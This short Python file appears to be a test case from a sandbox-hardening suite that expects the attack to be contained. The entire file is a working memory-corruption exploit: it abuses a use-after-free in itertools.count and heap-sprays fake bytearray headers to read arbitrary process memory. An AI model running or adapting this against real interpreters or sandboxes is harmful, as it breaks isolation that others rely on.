# category: memory | expect: contained | min-python: 3.11 | source: itertools.count gives its number away after the addition, whose __add__ asks for the next
import itertools


def use(memory):  # a bytearray that begins at address 0 and has no end
    print("ESCAPED:any memory", memory[id(print) : id(print) + 8].hex(), flush=True)


class Bytes(bytearray):
    pass


fake = b"".join(n.to_bytes(8, "little") for n in (1 << 20, id(Bytes), (1 << 63) - 1, 8, 0, 0, 0, 0, 0, 0, 0))


class Adds(float):
    __slots__ = (*"abcdefgh", "__dict__")

    def __add__(self, other):
        if on:
            on.pop()
            kept.append(next(counter))
        return 7


on, kept, number = [1], [], Adds(1)
counter = itertools.count(number, 1.0)
first = next(counter)
del number, first
spray = [fake + b"%07d" % i for i in range(40)]
if type(kept[0]) is Bytes:
    use(kept[0])
print("contained")
